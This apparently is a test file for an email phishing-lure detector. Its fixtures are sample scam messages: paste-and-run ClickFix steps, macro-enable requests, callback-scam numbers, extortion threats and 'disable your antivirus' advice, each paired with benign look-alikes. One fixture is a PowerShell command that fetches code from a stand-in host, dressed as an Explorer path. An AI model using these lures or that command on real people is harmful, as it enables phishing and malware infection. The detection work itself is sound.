import assert from 'node:assert/strict'
import { after, before, test } from 'node:test'
import { downloadLink } from './download-link.ts'
import { phishingLure } from './phishing-lure.ts'
import { type Mailbox, mailbox, OURS } from './test-mailbox.ts'

let office: Mailbox
before(async () => {
  office = await mailbox()
})
after(async () => await office.close())

const alone = async (mail: Omit<Parameters<Mailbox['mail']>[0], 'day'>, detector = phishingLure) => {
  await office.clear()
  await office.mail({ auth: 'pass', ...mail, day: 1 })
  return (await office.judge(detector)).map((sign) => `${sign.severity} ${sign.metrics.kind}`)
}

test('keys and paste that run a command are a sign; keys that print a screen are none', async () => {
  const from = '取引先ポータル <portal@buhin-portal.example.net>'
  const links = [{ url: 'https://buhin-portal.example.net/rev' }]
  const steps = '図面の閲覧には確認が必要です。Win＋Rを押し、Ctrl＋Vで貼り付けて、Enterを押してください。'
  assert.deepEqual(await alone({ from, text: steps, links }), ['high worded-malware'])
  assert.deepEqual(
    await alone({ from, text: 'On the page press Windows key + R, then Ctrl + V and Enter to verify.', links }),
    ['high worded-malware'],
  )
  for (const abroad of [
    'Zeigt das Portal eine Tastenfolge an (Windows-Taste + R, danach Einfügen), führen Sie diese bitte aus.',
    'Appuyez sur la touche Windows + R, puis collez le code et validez.',
    '请按 Win键 + R，然后粘贴并回车。',
    'Windows 키 + R을 누른 뒤 붙여넣기 하십시오.',
    'Press the Windows key together with R, press Ctrl and V, then Enter.',
  ])
    assert.deepEqual(await alone({ from, text: abroad, links }), ['high worded-malware'], abroad)
  assert.deepEqual(await alone({ from, text: steps, links, list_id: 'news.example.net' }), ['high worded-malware'])
  const keyboard =
    'Please tick the box "I am not a robot" and follow the three steps on the keyboard. It is a one-time check.'
  assert.deepEqual(await alone({ from, text: keyboard, links }), ['high worded-malware'])
  assert.deepEqual(
    await alone({ from, text: 'Please tick the box "I am not a robot" and press the button below.', links }),
    [],
  )
  const warning =
    '11月号では、「私はロボットではありません」と表示し、Windowsキー＋R、Ctrl＋V、Enterの順に押させる手口（クリックフィックス）を取り上げました。回覧にご活用ください。'
  assert.deepEqual(await alone({ from, text: warning, links }), [])
  assert.deepEqual(await alone({ from, text: '画面の写しは Win＋Shift＋S で撮れます。', links }), [])
  assert.deepEqual(await alone({ from: `情報課 <jim@${OURS}>`, text: steps, links }), [])
})

test('a stranger who wants editing enabled to see the text is a sign; a form that says why it has macros is none', async () => {
  const from = '経済フォーラム事務局 <forum@keizai-forum.example.org>'
  const attachments = [{ name: '依頼状.docm' }]
  const shown = '文書が正しく表示されない場合は「コンテンツの有効化」を押してください。'
  assert.deepEqual(await alone({ from, text: shown, attachments }), ['medium worded-malware'])
  assert.deepEqual(await alone({ from, text: '調査票はマクロを有効にしてご記入ください。', attachments }), [])
  const shared = '資料はOneDriveに置きました。開いた際は「コンテンツの有効化」を押してください。'
  const links = [{ url: 'https://1drv.ms/u/c/8e21d7f0' }]
  assert.deepEqual(await alone({ from, text: shared, links }), ['medium worded-malware'])
  assert.deepEqual(await alone({ from, text: '資料はOneDriveに置きました。', links }), [])
})

test('a billing office at a free address with nothing but a picture, and one whose number stands in the file, are signs; a photograph is none', async () => {
  const from = 'Billing Dept <kristen.h8812@gmail.com>'
  const attachments = [{ name: 'invoice.jpg', type: 'image' }]
  assert.deepEqual(await alone({ from, subject: 'Order confirmation #77192', text: '', attachments }), [
    'medium callback',
  ])
  const bill = 'Your annual plan was renewed today, see the invoice. If you did not authorise it call our helpdesk.'
  assert.deepEqual(await alone({ from, text: bill, attachments: [{ name: 'INV.pdf', type: 'pdf' }] }), [
    'medium callback',
  ])
  assert.deepEqual(
    await alone({ from: '佐藤 <sato.h@gmail.com>', subject: '写真です', text: '先日の写真です。', attachments }),
    [],
  )
})

test('an alarm of a stranger that has a number rung at once is a sign; a club that names its telephone is none', async () => {
  const alarm =
    '通常と異なるサインインを検出しました。心当たりがない場合は、サポート窓口(050-0000-9911)へ至急お電話ください。'
  assert.deepEqual(await alone({ from: 'Account Team <notice@msteam-notify.example>', text: alarm }), [
    'medium callback',
  ])
  const undone =
    '年間保守が自動更新され、248,000円をご請求いたします。取消しは本日18時までに 050-0000-4410 へお電話ください。'
  assert.deepEqual(await alone({ from: 'ライセンス管理 <license@gis-renewal.example>', text: undone }), [
    'medium callback',
  ])
  const club = '不正アクセスの講習会を開きます。欠席の方は至急 03-0000-4410 へお電話ください。'
  assert.deepEqual(await alone({ from: '商工会 <jimu@shokokai.example>', text: club }), [])
})

test("a number to ring in the note of a service's genuine bill is a sign; the bill itself is none", async () => {
  const from = 'PayPal <service@paypal.com>'
  const links = [{ url: 'https://www.paypal.com/invoice/p/1' }]
  const note = 'Seller note to customer: You were charged $699. If you did not authorize this, call +1 (808) 555-0146.'
  assert.deepEqual(await alone({ from, text: `Example Ltd sent you an invoice.\n${note}`, links }), ['medium callback'])
  assert.deepEqual(
    await alone({ from, text: 'Example Ltd sent you an invoice for $20.\nSeller note to customer: Thank you!', links }),
    [],
  )
})

test('a threat to publish what was taken is a sign without coins too; a newspaper that tells of one is none', async () => {
  const threat =
    'We downloaded 212 GB: accounting, HR files, contracts. If you do not contact us within 72 hours we will publish the files on our blog.'
  assert.deepEqual(await alone({ from: 'Night <n@nv.example.org>', text: threat }), ['medium blackmail'])
  for (const other of [
    'We will start a DDoS attack on Friday. To stop it, pay 2 BTC; the fee rises by 1 BTC every day.',
    'Wir haben Ihre Daten kopiert. Wenn Sie nicht 5 Bitcoin zahlen, veröffentlichen wir sie.',
    'Nous avons copié vos fichiers. Les fichiers ont été copiés; faute de paiement en Bitcoin, ils seront publiés.',
    '我们已窃取贵公司数据，数据已全部下载。否则请支付 3 BTC。',
  ])
    assert.deepEqual(await alone({ from: 'Night <n@nv.example.org>', text: other }), ['medium blackmail'], other)
  assert.deepEqual(
    await alone({
      from: 'abc <warn@gmail.com>',
      text: 'あなたの病院のウェブサイトは3日後に攻撃されます。止めたければ2BTCを支払え。',
    }),
    ['medium blackmail'],
  )
  const links = ['https://news.example.org/1', 'https://news.example.org/2'].map((url) => ({ url }))
  assert.deepEqual(await alone({ from: 'News <n@news.example.org>', text: threat, links }), [])
})

test('a name that begins with a brand and ends in a service is the brand; its page where anybody lays pages proves nothing', async () => {
  const links = [{ url: 'https://login.example.net/a' }]
  const text = 'Your document has been completed.'
  assert.deepEqual(await alone({ from: 'DocuSign Electronic Signature <info@villa.example.it>', text, links }), [
    'high brand',
  ])
  assert.deepEqual(await alone({ from: 'DocuSign Partners GmbH <info@villa.example.it>', text, links }), [])
  const google = 'Google Workspace Team <ws@alerts.example.net>'
  assert.deepEqual(await alone({ from: google, text, links: [{ url: 'https://sites.google.com/view/up' }] }), [
    'high brand',
  ])
  assert.deepEqual(await alone({ from: google, text, links: [{ url: 'https://workspace.google.com/' }] }), [
    'low brand',
  ])
})

test('a link that shows one page of a service and leads to where anybody lays pages is a sign; one that leads where it shows is none', async () => {
  const from = 'Dr. Vance <e.vance@policy.example.org>'
  const shown = 'meet.google.com/kqv-tzpa-xme'
  const other = [{ url: 'https://sites.google.com/view/meet/join', shown }]
  assert.deepEqual(await alone({ from, text: 'Join here.', links: other }, downloadLink), ['high elsewhere'])
  const same = [{ url: 'https://meet.google.com/kqv-tzpa-xme', shown }]
  assert.deepEqual(await alone({ from, text: 'Join here.', links: same }, downloadLink), [])
})

test('our own words quoted by whom nobody wrote to, with a link to a third place, are a stolen thread; by a colleague of the partner they are none', async () => {
  const quoted = `こちらをご確認ください。\n\nhttps://media.example.com.tr/q/?84\n\n2023/11/09 14:22、info <info@${OURS}> のメッセージ:\n> 木下様\n> 登録証は書留でお送りします。`
  const links = [{ url: 'https://media.example.com.tr/q/?84', source: 'text' as const }]
  assert.deepEqual(await alone({ from: '木下 <contato@clinica.example.com.br>', text: quoted, links }), [
    'medium thread',
  ])
  const own = quoted.replaceAll('media.example.com.tr', 'files.mihon-kinoshita.co.jp')
  assert.deepEqual(
    await alone({
      from: '木下 <k@mihon-kinoshita.co.jp>',
      text: own,
      links: [{ url: 'https://files.mihon-kinoshita.co.jp/q/?84', source: 'text' as const }],
    }),
    [],
  )
})

test('a bill that quotes a colleague who is not written to is a sign when it is in haste; without haste, or with him in copy, it is none', async () => {
  const text = (day: string) =>
    `Further to the approval below please arrange the payment of invoice 22817${day}.\n\nFrom: Hanako Sato <sato@${OURS}>\nTo: Jonathan Reeve\n\nApologies, our accounts will pay.`
  const from = 'Jonathan Reeve <j.reeve@mihon-finch.co.jp>'
  const attachments = [{ name: 'Invoice.pdf', type: 'pdf' }]
  assert.deepEqual(await alone({ from, to: `yamada@${OURS}`, text: text(' today, it is urgent'), attachments }), [
    'medium thread',
  ])
  assert.deepEqual(await alone({ from, to: `yamada@${OURS}`, text: text(''), attachments }), [])
  assert.deepEqual(await alone({ from, to: `sato@${OURS}`, text: text(' today, it is urgent'), attachments }), [])
})

test('a program with the protection switched off is a sign, also of a partner; advice to switch it on, and a partner’s manual, are none', async () => {
  const from = '保守担当 <hoshu@kiki-support.example>'
  const links = [{ url: 'https://www.kiki-support.example/fix/KiKi_1024.zip' }]
  for (const text of [
    'セキュリティソフトが警告を出す場合は、一時的に無効にして実行してください。',
    'If your antivirus complains, please disable it while the update runs.',
    'Bitte deaktivieren Sie den Virenscanner während der Installation.',
    '安装时请先关闭杀毒软件。',
  ])
    assert.deepEqual(await alone({ from, text, links }), ['high worded-malware'], text)
  const on = 'ウイルス対策ソフトは常に最新の状態にしてください。'
  assert.deepEqual(await alone({ from, text: on, links: [{ url: 'https://www.kiki-support.example/news' }] }), [])
  const partner = async (url: string) => {
    await office.clear()
    for (const day of [1, 5, 9]) {
      await office.mail({ from, day, auth: 'pass' })
      await office.mail({ from: `佐藤 花子 <sato@${OURS}>`, to: from, day: day + 1 })
    }
    const text = 'インストール中はウイルス対策ソフトを一時的に無効にしてください。'
    await office.mail({ from, day: 20, auth: 'pass', text, links: [{ url }] })
    return (await office.judge(phishingLure)).map((sign) => `${sign.severity} ${sign.metrics.kind}`)
  }
  assert.deepEqual(await partner('https://www.kiki-support.example/fix/KiKi_1024.zip'), ['medium worded-malware'])
  assert.deepEqual(await partner('https://www.kiki-support.example/manual/'), [])
})

test('a command for the address bar of Explorer is a sign over several numbered lines, too; a folder to be opened there is none', async () => {
  const from = 'ヘルプデスク <help@koukai-desk2026.example>'
  const steps = (what: string) =>
    `次の手順で取得願います。\n 1. エクスプローラーを開く\n 2. アドレスバーを選択し、下の文字列を貼り付けて Enter\n    ${what}\n 3. 「確認済」と出れば完了です`
  const [sign] = await alone({
    from,
    text: steps('powershell -c "iwr https://koukai-desk2026.example/a" # \\\\fs\\手順書.pdf'),
  })
  assert.match(String(sign), /^high/)
  assert.deepEqual(await alone({ from: `情報課 <jim@${OURS}>`, text: steps('\\\\fs01\\共有\\手順書.pdf') }), [])
})
